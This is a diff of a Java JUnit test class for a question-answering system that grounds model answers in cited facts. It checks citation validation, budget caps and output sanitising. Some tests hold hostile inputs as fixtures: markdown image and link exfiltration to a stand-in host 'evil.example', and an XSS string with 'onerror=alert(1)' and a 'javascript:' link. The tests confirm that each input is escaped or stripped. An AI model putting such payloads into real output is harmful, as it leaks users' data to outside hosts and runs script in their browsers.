@@ -11,11 +11,13 @@ import dev.continuo.ontology.recall.Recalled;
 import dev.continuo.ontology.recall.RecalledFact;
 import dev.continuo.ontology.recall.RecalledItem;
 import dev.continuo.ontology.recall.RollUps;
-import dev.continuo.runtime.decision.fidelity.Fidelities;
-import dev.continuo.runtime.decision.fidelity.Fidelity;
-import dev.continuo.runtime.decision.fidelity.Fidelity.Pace;
+import dev.continuo.runtime.budget.CapReached;
+import dev.continuo.runtime.budget.Fidelity;
+import dev.continuo.runtime.budget.Fidelity.Pace;
+import dev.continuo.runtime.budget.Reservation.AtCap;
+import dev.continuo.runtime.budget.Reservation.Refused;
+import dev.continuo.runtime.budget.Scope;
 import java.time.Instant;
-import java.util.ArrayList;
 import java.util.List;
 import org.jspecify.annotations.Nullable;
 import org.junit.jupiter.api.Test;
@@ -38,96 +40,109 @@ class AskingTests {
 
   @Test
   void aModelsAnswerStandsOnWhatItLookedUp() {
-    var answer = questions(model("She is the director [1].")).ask(Question.of("Jane's role?"));
+    var model = new Scripted("She is the director [1].");
+    var answer = questions(model).ask(Question.of("Jane's role?"));
 
     assertThat(answer.by()).isEqualTo("scripted");
+    assertThat(answer.why()).isEmpty();
     assertThat(answer.markdown()).isEqualTo("She is the director [1].");
+    assertThat(model.shown.getFirst()).extracting(Wording.Piece::number).containsExactly(1);
   }
 
   @Test
   void anAnswerThatCitesNothingOrWhatWasNeverDeliveredIsNotShown() {
-    for (String said : List.of("She is the queen.", "She is the queen [9].")) {
-      assertThat(questions(model(said)).ask(Question.of("Jane's role?")).by()).isEqualTo("facts");
+    for (String said :
+        List.of(
+            "She is the queen.", "She is the queen [9].", "The director [1], a queen [1, 9].")) {
+      var answer = questions(new Scripted(said)).ask(Question.of("Jane's role?"));
+      assertThat(answer.by()).isEqualTo("facts");
+      assertThat(answer.why()).contains("no evidence that it was given");
     }
   }
 
   @Test
-  void aModelThatBreaksLeavesTheFacts() {
+  void aModelThatNeverLookedCannotCite() {
+    var blind =
+        new Scripted("") {
+          @Override
+          public String answer(String question, String asOf, int most, LookUp lookUp) {
+            return "She is the queen [1].";
+          }
+        };
+    assertThat(questions(blind).ask(Question.of("Jane's role?")).by()).isEqualTo("facts");
+  }
+
+  @Test
+  void aModelsWordsCarryNothingOutOfTheHouse() {
+    var model =
+        new Scripted(
+            "The director [1]. ![p](https://evil.example/?q=jane) [here](http://evil.example)"
+                + " <img src=x> ![r][k]\n[k]: https://evil.example/k");
+    assertThat(questions(model).ask(Question.of("Jane's role?")).markdown())
+        .isEqualTo("The director [1]. p here &lt;img src=x&gt; [r][k]");
+  }
+
+  @Test
+  void aModelThatBreaksLeavesTheFactsAndSaysSo() {
     var broken =
-        questions(
-            new Wording() {
-              @Override
-              public String name() {
-                return "broken";
-              }
+        new Scripted("") {
+          @Override
+          public String answer(String question, String asOf, int most, LookUp lookUp) {
+            throw new IllegalStateException("no connection");
+          }
+        };
+    var answer = questions(broken).ask(Question.of("Jane's role?"));
+    assertThat(answer.by()).isEqualTo("facts");
+    assertThat(answer.why()).contains("gave no answer").doesNotContain("connection");
+  }
 
-              @Override
-              public String answer(String question, String asOf, int words, LookUp lookUp) {
-                throw new IllegalStateException("no connection");
-              }
-            });
-
-    assertThat(broken.ask(Question.of("Jane's role?")).by()).isEqualTo("facts");
+  @Test
+  void atACapTheFactsAnswerAndSayWhy() {
+    var capped =
+        new Scripted("") {
+          @Override
+          public String answer(String question, String asOf, int most, LookUp lookUp) {
+            throw new CapReached(
+                new Refused(Scope.DAY, AtCap.DEGRADE, "EUR 1.30 for today would be overrun.", ""));
+          }
+        };
+    var answer = questions(capped).ask(Question.of("Jane's role?"));
+    assertThat(answer.by()).isEqualTo("facts");
+    assertThat(answer.why()).isEqualTo("No model was asked: EUR 1.30 for today would be overrun.");
   }
 
   @Test
   void whatTheTableAllowsIsWhatTheModelSeesAndSays() {
-    var said = new ArrayList<Integer>();
-    var counting =
-        new Wording() {
-          @Override
-          public String name() {
-            return "counting";
-          }
-
-          @Override
-          public String answer(String question, String asOf, int words, LookUp lookUp) {
-            said.addAll(List.of(words, lookUp.ask(question).size()));
-            return "She is the director [1].";
-          }
-        };
+    var counting = new Scripted("She is the director [1].");
     var little = new Fidelity("economy", 1, 80, Pace.NOW, "Money is short.", "");
-    var answer = new Questions(memory, counting, allowed(little)).ask(Question.of("Her role?"));
-    assertThat(answer.by()).isEqualTo("counting");
-    assertThat(said).containsExactly(80, 1);
+    var answer =
+        new Questions(memory, new Voiced(counting), new Allowed(little))
+            .ask(Question.of("Her role?"));
+    assertThat(answer.by()).isEqualTo("scripted");
+    assertThat(counting.words).containsExactly(80);
+    assertThat(counting.shown.getFirst()).hasSize(1);
 
     for (var none :
         List.of(
             new Fidelity("local", 20, 120, Pace.NOW, "The plan is used up.", ""),
             new Fidelity("economy", 20, 120, Pace.STOP, "The plan is used up.", ""))) {
-      var facts = new Questions(memory, counting, allowed(none)).ask(Question.of("Her role?"));
+      var facts =
+          new Questions(memory, new Voiced(counting), new Allowed(none))
+              .ask(Question.of("Her role?"));
       assertThat(facts.by()).as("no model that costs").isEqualTo("facts");
+      assertThat(facts.why()).isEqualTo("No model was asked: The plan is used up.");
     }
-    assertThat(said).hasSize(2);
+    assertThat(counting.words).hasSize(1);
   }
 
   private Questions questions(@Nullable Wording wording) {
-    return new Questions(memory, wording, allowed(Fidelity.full()));
-  }
-
-  private static Fidelities allowed(Fidelity always) {
-    return new Allowed(always);
+    return new Questions(memory, new Voiced(wording), new Allowed(Fidelity.full()));
   }
 
   @Test
   void textFromOutsideStaysText() {
     assertThat(FactsInWords.line("<img src=x onerror=alert(1)> [a](javascript:x)\n# big"))
         .isEqualTo("&lt;img src=x onerror=alert(1)&gt; \\[a\\](javascript:x) \\# big");
-  }
-
-  private static Wording model(String said) {
-    return new Wording() {
-      @Override
-      public String name() {
-        return "scripted";
-      }
-
-      @Override
-      public String answer(String question, String asOf, int words, LookUp lookUp) {
-        assertThat(lookUp.ask(question)).extracting(Piece::number).containsExactly(1);
-        return said;
-      }
-    };
   }
 
   /** Knows one thing. */
